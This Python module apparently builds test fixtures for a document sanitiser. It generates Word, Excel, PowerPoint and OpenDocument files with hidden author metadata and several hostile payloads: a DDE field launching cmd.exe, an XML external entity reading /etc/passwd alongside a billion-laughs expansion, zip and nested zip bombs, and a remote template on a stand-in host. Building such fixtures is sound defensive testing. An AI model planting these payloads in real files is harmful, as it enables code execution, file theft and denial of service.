"""Office documents with authors, links, macros and bombs."""

import io
import zipfile

from .mark import MARK, WORD
from .pictures import told

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CORE = (
    f'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    f"<dc:creator>{WORD}</dc:creator><cp:lastModifiedBy>{WORD}</cp:lastModifiedBy></cp:coreProperties>"
)
TRACKED = (
    f'<w:document {W}><w:body><w:p><w:ins w:id="1" w:author="{WORD}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>tetap</w:t></w:r></w:ins>'
    f'<w:del w:id="2" w:author="{WORD}"><w:r><w:delText>{WORD}</w:delText></w:r></w:del></w:p></w:body></w:document>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def letter(**members: str | bytes) -> bytes:
    """A Word document; `__` in a name stands for a slash, `_rels` for its relations."""
    named = {name.replace("__", "/"): content for name, content in members.items()}
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": f"<w:document {W}/>", **named})


def zipped(members: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def relations(*rows: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(rows)}</Relationships>'


def authored() -> bytes:
    custom = f"<Properties><property><v>{WORD}</v></property></Properties>"
    people = f'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="{WORD}"/></w15:people>'
    said = f'<w:comments {W}><w:comment w:id="1" w:author="{WORD}" w:initials="{WORD}"><w:p/></w:comment></w:comments>'
    return letter(**{"docProps/core.xml": CORE, "docProps/app.xml": custom, "docProps/custom.xml": custom, "word/document.xml": TRACKED,
                     "word/comments.xml": said, "word/people.xml": people})  # fmt: skip


SIGNED = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><KeyInfo><X509Data><X509SubjectName>CN={}</X509SubjectName></X509Data></KeyInfo></Signature>'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def signed() -> bytes:
    """A letter with a signature by name, and with its properties under a name of their own."""
    types = '<Types><Override PartName="/_xmlsignatures/sig1.xml" ContentType="x"/></Types>'
    rows = relations(
        f'<Relationship Id="rId1" Type="{PACKAGE}/relationships/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/>',
        f'<Relationship Id="rId2" Type="{PACKAGE}/relationships/metadata/core-properties" Target="docProps/core2.xml"/>',
    )
    strict = f"<core><lastModifiedBy>{WORD}</lastModifiedBy></core>"
    members: dict[str, str | bytes] = {"[Content_Types].xml": types, "_rels/.rels": rows, "docProps/core2.xml": CORE, "package/metadata/a.psmdcp": strict}
    return letter(**members, **{"_xmlsignatures/origin.sigs": "", "_xmlsignatures/sig1.xml": SIGNED.format(WORD)})


def shown() -> bytes:
    """Slides as PowerPoint keeps them when somebody has commented."""
    author = f'<p188:author id="{{1}}" name="{WORD}" initials="{WORD}" userId="{WORD}" providerId="AD"/>'
    authors = f'<p188:authorLst xmlns:p188="http://schemas.microsoft.com/office/powerpoint/2018/8/main">{author}</p188:authorLst>'
    return zipped({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<presentation/>", "ppt/authors.xml": authors})


def shared() -> bytes:
    """A table that somebody has reserved, with the history of who changed it."""
    reserved = f'<workbook><fileSharing readOnlyRecommended="1" userName="{WORD}"/></workbook>'
    heads = f'<headers><header guid="{{1}}" userName="{WORD}"/></headers>'
    users = f'<users count="1"><userInfo guid="{{1}}" name="{WORD}" id="-1"/></users>'
    return sheet(**{"xl/workbook.xml": reserved, "xl/revisions/revisionHeaders.xml": heads, "xl/revisions/userNames.xml": users})


def pictured() -> bytes:
    return letter(**{"word/media/image1.jpeg": told(), "docProps/thumbnail.jpeg": told()})


def sheet(**members: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", **members})


def printed() -> bytes:
    """A table as Excel keeps it when its page was set up: the printer's own bytes lie beside it."""
    rows = relations(f'<Relationship Id="rId1" Type="{RELATION}/printerSettings" Target="../printerSettings/printerSettings1.bin"/>')
    page = f'<worksheet xmlns:r="{RELATION}"><sheetData/><pageSetup paperSize="9" r:id="rId1"/></worksheet>'
    members: dict[str, str | bytes] = {"xl/worksheets/sheet1.xml": page, "xl/worksheets/_rels/sheet1.xml.rels": rows}
    return sheet(**members, **{"xl/printerSettings/printerSettings1.bin": MARK})


def open_document(**members: str | bytes) -> bytes:
    meta = f"<office:document-meta {ODF}><office:meta><dc:creator>{WORD}</dc:creator></office:meta></office:document-meta>"
    content = f"<office:document-content {ODF}/>"
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, "meta.xml": meta, **members})


ODF = " ".join(
    f'xmlns:{name}="{address}"'
    for name, address in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "dc": "http://purl.org/dc/elements/1.1/",
    }.items()
)


def reaching(content: str) -> bytes:
    return open_document(**{"content.xml": f"<office:document-content {ODF}>{content}</office:document-content>"})


def template(quote: str = '"', encoding: str = "utf-8") -> bytes:
    """A document whose template lies on somebody else's server."""
    row = f'<Relationship Id="rId1" Type="{RELATION}/attachedTemplate" Target="http://{WORD}.invalid/a.dotm" TargetMode="External"/>'
    head = "" if encoding == "utf-8" else f'<?xml version="1.0" encoding="{encoding}"?>'
    return letter(**{"word/_rels/settings.xml.rels": (head + relations(row)).replace('"', quote).encode(encoding)})


def linked() -> bytes:
    """A document with an ordinary hyperlink, which it may have."""
    row = f'<Relationship Id="rId1" Type="{RELATION}/hyperlink" Target="https://contoh.invalid/" TargetMode="External"/>'
    return letter(**{"word/_rels/document.xml.rels": relations(row)})


def dde() -> bytes:
    """A field that starts a program, its name cut in two."""
    field = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"
    return letter(**{"word/document.xml": f"<w:document {W}><w:p>{field}</w:p></w:document>"})


def asking() -> bytes:
    return sheet(**{"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})


def entities() -> bytes:
    """The billion laughs, and a file of the server."""
    nested = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return letter(**{"word/document.xml": f'<!DOCTYPE d [<!ENTITY a0 "ha">{nested}<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&a9;&f;</d>'})


def bomb(members: int, size: int) -> bytes:
    return letter(**{f"word/media/{n}.xml": b"\0" * size for n in range(members)})


def nested_bomb() -> bytes:
    inner = zipped({f"{n}": b"\0" * 3_000_000 for n in range(9)})
    return zipped({f"{n}.zip": inner for n in range(9)})


def guarded() -> bytes:
    """An archive that says its members are encrypted."""
    raw = bytearray(letter())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = raw.find(sign)
        while start >= 0:
            raw[start + at] |= 1
            start = raw.find(sign, start + 4)
    return bytes(raw)
